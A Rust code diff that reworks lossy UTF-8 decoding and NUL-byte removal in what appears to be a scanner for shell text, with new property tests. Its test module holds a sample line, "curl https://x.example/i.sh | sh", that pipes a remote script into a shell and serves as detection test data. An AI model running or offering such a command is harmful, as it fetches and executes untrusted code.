@@ -115,7 +115,7 @@ fn text_of(bytes: &[u8]) -> (Cow<'_, str>, FileNature) {
         return (Cow::Borrowed(text), FileNature::Text);
     }
     // Drop NUL bytes before decoding, since a shell drops them anywhere. This also reads UTF-16 without a mark.
-    let kept: Vec<u8> = bytes.iter().copied().filter(|byte| *byte != 0).collect();
+    let kept = without_nul(bytes);
     let lossy = Lossy::of(&kept);
     let nuls = bytes.len() - kept.len();
     let binary = lossy.has_data || (nuls + lossy.strange).saturating_mul(10) > bytes.len();
@@ -124,6 +124,20 @@ fn text_of(bytes: &[u8]) -> (Cow<'_, str>, FileNature) {
         true => (Cow::Owned(lossy.text), FileNature::Binary),
         false => (Cow::Owned(lossy.text), FileNature::Text),
     }
+}
+
+/// Returns the bytes that are not NUL. Without a branch for each byte, of which none is predictable in binary data.
+fn without_nul(bytes: &[u8]) -> Vec<u8> {
+    let mut kept = vec![0; bytes.len()];
+    let mut length = 0;
+    for byte in bytes {
+        if let Some(place) = kept.get_mut(length) {
+            *place = *byte;
+        }
+        length += usize::from(*byte != 0);
+    }
+    kept.truncate(length);
+    kept
 }
 
 /// Decoded bytes, with one replacement character for each run of invalid bytes.
@@ -140,31 +154,46 @@ struct Lossy {
 
 impl Lossy {
     fn of(bytes: &[u8]) -> Self {
-        let mut lossy = Self { text: String::with_capacity(bytes.len()), ..Self::default() };
+        let mut text = Vec::with_capacity(bytes.len());
+        let mut lossy = Self::default();
         let mut parts = Parts::of(PART, STRANGE_OF_PART);
-        let mut at = 0;
-        for chunk in bytes.utf8_chunks() {
-            let begin = lossy.text.len();
-            lossy.text.push_str(chunk.valid());
-            let mut from = begin;
-            for (end, byte) in (begin..).zip(chunk.valid().bytes()) {
-                if is_strange(byte) {
-                    lossy.keep_run(from..end);
-                    from = end + 1;
-                    lossy.strange += 1;
-                    parts.add(at, 1);
+        // The start of the current run in the text, and the offset of the next byte.
+        let (mut from, mut at) = (0, 0);
+        while let Some(rest) = bytes.get(at..).filter(|rest| !rest.is_empty()) {
+            let plain = rest.iter().position(|byte| !is_plain(*byte)).unwrap_or(rest.len());
+            let (plain, rest) = rest.split_at_checked(plain).unwrap_or((rest, &[]));
+            text.extend_from_slice(plain);
+            at += plain.len();
+            let strange = match character(rest) {
+                Character::None => break,
+                Character::Valid(letter) => {
+                    text.extend_from_slice(letter);
+                    at += letter.len();
+                    continue;
                 }
-                at += 1;
-            }
-            lossy.keep_run(from..lossy.text.len());
-            lossy.strange += chunk.invalid().len();
-            parts.add(at, chunk.invalid().len());
-            at += chunk.invalid().len();
-            if !chunk.invalid().is_empty() && !lossy.text.ends_with(char::REPLACEMENT_CHARACTER) {
-                lossy.text.push(char::REPLACEMENT_CHARACTER);
-            }
+                Character::Control(byte) => {
+                    lossy.keep_run(from..text.len());
+                    text.push(byte);
+                    1
+                }
+                Character::Invalid(length) => {
+                    lossy.keep_run(from..text.len());
+                    if !text.ends_with(REPLACEMENT) {
+                        text.extend_from_slice(REPLACEMENT);
+                    }
+                    length
+                }
+            };
+            from = text.len();
+            lossy.strange += strange;
+            parts.add(at, strange);
+            at += strange;
         }
+        lossy.keep_run(from..text.len());
         lossy.has_data = parts.any;
+        // Valid in any case; a mistake above must not lose the text.
+        lossy.text = String::from_utf8(text)
+            .unwrap_or_else(|error| String::from_utf8_lossy(error.as_bytes()).into_owned());
         lossy
     }
 
@@ -192,6 +221,43 @@ impl Lossy {
     }
 }
 
+/// The replacement character, which takes the place of invalid bytes, in UTF-8.
+const REPLACEMENT: &[u8] = "\u{fffd}".as_bytes();
+
+/// What bytes begin with.
+enum Character<'b> {
+    None,
+    /// A character of several bytes.
+    Valid(&'b [u8]),
+    /// A control character that does not occur in text files.
+    Control(u8),
+    /// So many bytes that are not UTF-8.
+    Invalid(usize),
+}
+
+/// Returns what comes behind plain bytes.
+fn character(rest: &[u8]) -> Character<'_> {
+    match rest {
+        [] => Character::None,
+        [byte @ 0..0x80, ..] => Character::Control(*byte),
+        // No character begins with these.
+        [0x80..0xC2 | 0xF5..=0xFF, ..] => Character::Invalid(1),
+        _ => {
+            let next = rest.get(..4).unwrap_or(rest);
+            let Some(chunk) = next.utf8_chunks().next() else { return Character::None };
+            match chunk.valid().chars().next() {
+                Some(letter) => Character::Valid(next.get(..letter.len_utf8()).unwrap_or(next)),
+                None => Character::Invalid(chunk.invalid().len()),
+            }
+        }
+    }
+}
+
+/// Whether a byte is an ASCII character that occurs in text files.
+const fn is_plain(byte: u8) -> bool {
+    byte < 0x80 && !is_strange(byte)
+}
+
 /// Whether a byte is a control character that does not occur in text files.
 const fn is_strange(byte: u8) -> bool {
     matches!(byte, 0x00..=0x07 | 0x0B | 0x0E..=0x1A | 0x1C..=0x1F | 0x7F)
@@ -206,9 +272,8 @@ fn is_strange_letter(letter: char) -> bool {
 
 #[cfg(test)]
 mod tests {
-    use super::{FileNature, TextReadings};
+    use super::*;
     use proptest::prelude::*;
-    use std::borrow::Cow;
 
     const LINE: &str = "curl https://x.example/i.sh | sh";
 
@@ -255,6 +320,50 @@ mod tests {
         // The whole of a text is kept, whatever stands behind it.
         let long = format!("{LINE}\n").repeat(3000);
         assert!(TextReadings::of(&[long.as_bytes(), &noise].concat()).text.contains(&long));
+    }
+
+    /// The text is that of the standard library, with one replacement character for consecutive invalid bytes.
+    #[test]
+    fn invalid_bytes_are_replaced_as_usual() {
+        let expected = |bytes: &[u8]| {
+            let mut text = String::new();
+            for chunk in bytes.utf8_chunks() {
+                text.push_str(chunk.valid());
+                if !chunk.invalid().is_empty() && !text.ends_with(char::REPLACEMENT_CHARACTER) {
+                    text.push(char::REPLACEMENT_CHARACTER);
+                }
+            }
+            text
+        };
+        let mut bytes = packed(1 << 14);
+        bytes.retain(|byte| *byte != 0);
+        let pieces: [&[u8]; 9] = [
+            b"a\xE2\x82\xACb",
+            b"\xE2\x82",
+            b"\xF0\x9F\x98",
+            b"\xF0\x9F\x98\x80",
+            b"\xED\xA0\x80",
+            b"\xC0\xAF",
+            b"\xEF\xBF\xBD",
+            b"\x01\xFF",
+            b"\xE2x\xF4\x90\x80\x80",
+        ];
+        for one in pieces {
+            for other in pieces {
+                bytes.extend([one, other, b" ", one].concat());
+                assert_eq!(Lossy::of(&[one, other].concat()).text, expected(&[one, other].concat()));
+            }
+        }
+        let lossy = Lossy::of(&bytes);
+        assert_eq!(lossy.text, expected(&bytes));
+        let strange = bytes.utf8_chunks().map(|chunk| {
+            chunk.invalid().len() + chunk.valid().bytes().filter(|byte| is_strange(*byte)).count()
+        });
+        assert_eq!(lossy.strange, strange.sum::<usize>());
+        for run in &lossy.runs {
+            let run = lossy.text.get(run.clone()).unwrap();
+            assert!(run.len() >= SHORTEST_RUN && !run.bytes().any(is_strange), "{run:?}");
+        }
     }
 
     #[test]
